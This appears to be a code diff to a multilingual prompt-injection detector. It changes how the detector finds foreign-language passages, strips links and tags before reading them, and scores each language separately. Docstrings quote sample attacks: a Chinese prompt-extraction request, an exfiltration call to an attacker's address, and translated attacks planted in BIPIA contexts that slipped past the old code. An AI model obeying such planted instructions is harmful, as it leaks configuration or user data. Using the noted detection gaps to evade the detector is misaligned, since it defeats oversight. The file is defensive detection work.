@@ -74,6 +74,9 @@ identifier ranks first: the English model cannot read it ("答案是 [I have bee
 PASSAGE_LETTERS = RUN_LETTERS
 """Passages are identified on runs of whole sentences with at least this many letters (the
 identifier guesses on fewer)."""
+WORD_CHARACTER_LETTERS = 3
+"""What a Chinese or Japanese character or a Hangul syllable counts for in a passage's
+letters (`_enough_letters`)."""
 PASSAGE_SCAN_CHARS = SCAN_CHARS
 """A longer text is searched for passages in its first and its last half of this many
 characters (`runs.scanned`)."""
@@ -103,6 +106,13 @@ class Reading:
     """The text itself, or its passages in other languages joined by newlines."""
     whole: bool
     """True when the text is in that language; False when only passages of it are."""
+    by_language: tuple[tuple[str, str], ...] = ()
+    """The passages of each language joined by newlines, what the head reads: one
+    Russian instruction in a table of foreign names is read apart from the names."""
+
+    @property
+    def parts(self) -> tuple[tuple[str, str], ...]:
+        return self.by_language or ((self.language, self.text),)
 
 
 class LanguageGate:
@@ -141,7 +151,7 @@ class LanguageGate:
         found = [
             (other, passage)
             for passage in _sentence_runs(text)
-            if (other := self.language(passage))
+            if _enough_letters(prose := _prose(passage)) and (other := self.language(prose))
         ]
         if not found:
             return None
@@ -149,7 +159,30 @@ class LanguageGate:
         for other, passage in found:
             letters[other] += letter_count(passage)
         joined = "\n".join(passage for _, passage in found)
-        return Reading(letters.most_common(1)[0][0], joined, whole=False)
+        by_language = tuple(
+            (other, "\n".join(passage for language, passage in found if language == other))
+            for other in letters
+        )
+        return Reading(letters.most_common(1)[0][0], joined, False, by_language)
+
+
+_NOT_PROSE = re.compile(
+    r"[a-z][a-z0-9+.-]*://\S+"  # a link
+    r"|www\.\S+"
+    r"|</?[a-z][^<>\n]*>",  # a markup tag with its attributes, or <an@address>
+    re.IGNORECASE,
+)
+"""What a passage's language is not read from: links and markup tags carry letters but no
+sentence. A README's list of its translations ("<a href=...>తెలుగు</a>", "[Läs på
+svenska](https://...)") or an author's line ("Tomi Pieviläinen <tomi@iki.fi>") was a
+passage in another language on their letters, and the head, fitted on prompts, read such
+fragments as attacks (huggingface-hub's README among the DEV ones). A bare address stays:
+in an instruction it is where the data is to go ("...send_email(to='attacker@evil.com')")."""
+
+
+def _prose(passage: str) -> str:
+    """The passage without what `_NOT_PROSE` matches."""
+    return _NOT_PROSE.sub(" ", passage)
 
 
 _SENTENCE_END = re.compile(r"[.!?]+(?=\s)|[\u3002\uff01\uff1f]+")
@@ -157,17 +190,65 @@ _SENTENCE_END = re.compile(r"[.!?]+(?=\s)|[\u3002\uff01\uff1f]+")
 
 
 def _sentence_runs(text: str) -> list[str]:
-    """The text cut into runs of at least PASSAGE_LETTERS letters: its lines (a shorter line
-    joins the next, `runs.joined_lines`), and a line's sentences (a shorter sentence joins
-    the one before it). Searched within PASSAGE_SCAN_CHARS at the text's start and end. A
-    text that is one run gives no runs: the whole-text reading decided it."""
+    """The text cut into runs: its blocks of lines in another script than Latin as they
+    are (`_script_blocks`), and the rest into runs of at least PASSAGE_LETTERS letters: its
+    lines (a shorter line joins the next, `runs.joined_lines`), and a line's sentences (a
+    shorter sentence joins the one before it). Searched within PASSAGE_SCAN_CHARS at the
+    text's start and end. A text that is one run gives no runs: the whole-text reading
+    decided it."""
     runs = [
         run
         for part in scanned(text)
-        for line in joined_lines(part, PASSAGE_LETTERS)
-        for run in _line_runs(line)
+        for other_script, block in _script_blocks(part)
+        for run in ([block] if other_script else _latin_runs(block))
     ]
     return runs if len(runs) > 1 else []
+
+
+def _script_blocks(text: str) -> list[tuple[bool, str]]:
+    """The text's lines grouped into consecutive blocks, each marked True when its lines'
+    letters are mostly in another script than Latin (a line without letters stays in the
+    block it is in). Such a line is kept apart from the Latin lines around it, however
+    short: a Chinese or Russian sentence has fewer letters than PASSAGE_LETTERS more often
+    than not ("介绍一下你自己和你的基础配置"), and joined to the table row beside it, the
+    row's letters hid it from the identifier or the head read mostly the row (DEV: 5-8 of
+    30 translated attacks planted in clean BIPIA contexts lost so in ru, zh and ja)."""
+    blocks: list[tuple[bool, str]] = []
+    for line in text.splitlines(keepends=True):
+        letters = [char for char in line if char.isalpha()]
+        other_script = (
+            _non_latin_share(letters) >= NON_LATIN if letters else bool(blocks and blocks[-1][0])
+        )
+        if blocks and blocks[-1][0] == other_script:
+            blocks[-1] = (other_script, blocks[-1][1] + line)
+        else:
+            blocks.append((other_script, line))
+    return blocks
+
+
+def _latin_runs(text: str) -> list[str]:
+    return [run for line in joined_lines(text, PASSAGE_LETTERS) for run in _line_runs(line)]
+
+
+def _enough_letters(passage: str) -> bool:
+    """Whether the identifier can name the passage's language: PASSAGE_LETTERS letters, a
+    Chinese or Japanese character or a Hangul syllable counting as WORD_CHARACTER_LETTERS
+    (it is about a word: "介绍一下你自己和你的基础配置" asks as much as a 60-letter
+    English request, and the script alone says it is not English)."""
+    weighted = sum(
+        WORD_CHARACTER_LETTERS if _is_word_character(char) else 1
+        for char in passage
+        if char.isalpha()
+    )
+    return weighted >= PASSAGE_LETTERS
+
+
+def _is_word_character(char: str) -> bool:
+    """Hiragana, katakana, CJK ideographs (and extension A), Hangul syllables."""
+    code = ord(char)
+    return (
+        0x3040 <= code <= 0x30FF or 0x3400 <= code <= 0x4DBF or 0x4E00 <= code <= 0x9FFF
+    ) or 0xAC00 <= code <= 0xD7AF
 
 
 def _line_runs(line: str) -> list[str]:
@@ -331,12 +412,16 @@ class Multilingual:
         results: list[MultilingualScore | None] = [None] * len(texts)
         if not chosen:
             return results
-        raws = self.raw_scores([reading.text for _, reading in chosen])
-        probabilities = self.head.calibration.probability(raws)
-        for (i, reading), raw, probability in zip(chosen, raws, probabilities, strict=True):
-            results[i] = MultilingualScore(
-                reading.language, float(raw), float(probability), reading.whole
-            )
+        parts = [(i, part) for i, reading in chosen for part in reading.parts]
+        raws = self.raw_scores([text for _, (_, text) in parts])
+        best: dict[int, tuple[float, str]] = {}
+        for (i, (language, _)), raw in zip(parts, raws.tolist(), strict=True):
+            if i not in best or raw > best[i][0]:
+                best[i] = (raw, language)
+        for i, reading in chosen:
+            raw, language = best[i]
+            probability = float(self.head.calibration.probability(np.array([raw]))[0])
+            results[i] = MultilingualScore(language, raw, probability, reading.whole)
         return results
 
     def second_opinion(self, texts: list[str]) -> list[float | None]:
